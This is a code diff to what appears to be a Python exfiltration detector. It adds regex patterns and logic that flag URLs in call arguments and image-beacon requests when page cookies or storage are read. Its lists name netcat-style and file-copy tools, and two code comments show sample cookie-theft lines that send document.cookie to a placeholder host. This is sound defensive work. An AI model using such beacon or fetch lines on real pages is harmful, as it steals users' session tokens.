@@ -176,6 +176,8 @@ _DECODERS = frozenset(
 )
 _NETCAT = frozenset({"nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "telnet", "socat"})
 _CLOUD_REMOTES = frozenset({"rclone"})
+_URL_IN_ARGS = re.compile(r"https?://[^\s'\"`)+,]{1,300}")
+_BEACON = re.compile(r"\.src\s*=\s*['\"`](https?://[^'\"`\s]{1,300})")
 _RUBY_BARE_CALL = re.compile(r"(\.[a-z_]\w*[!?]?)(?![\w(!?])")
 _COPY_SINKS = frozenset({"scp", "pscp", "rsync", "sftp", "rclone", "smbclient", "lftp", "ftp"})
 _MAILERS = frozenset(
@@ -1474,6 +1476,10 @@ class Analyser:
                     if a.startswith(("http://", "https://", "ftp://")):
                         send_dest = send_dest or a
                         self.out.urls.append(a)
+                m = _URL_IN_ARGS.search(call.argtext) if not send_dest else None
+                if m is not None:  # `fetch("https://x/?d=" + document.cookie)`
+                    send_dest = m.group(0)
+                    self.out.urls.append(send_dest)
                 if name in ("sendmail", "send_message", "send_mail", "sendmessage"):
                     mail_send = True
             if cat.hit("kill", chain) or (name in ("kill", "terminate") and "process" in chain):
@@ -1553,6 +1559,13 @@ class Analyser:
             for body in decoded:
                 if not self.snippet(body, "code"):
                     self.shell(body, strict=False, depth=1)
+        low_text = text.lower()
+        held = [x for x in cat.spec.get("secret_values") or () if str(x) in low_text]
+        if held and not secret_read:
+            secret_read = str(held[0])  # the page's cookies or storage (tokens, sessions)
+        beacon = _BEACON.search(text) if not send_dest and held else None
+        if beacon is not None:  # `new Image().src = "https://x/p.gif?c=" + document.cookie`
+            send_dest = beacon.group(1)
         if secret_read and send_dest and self.dest_class(send_dest) != "internal":
             host = send_dest.split("://", 1)[-1].split("/", 1)[0]
             self.out.add(
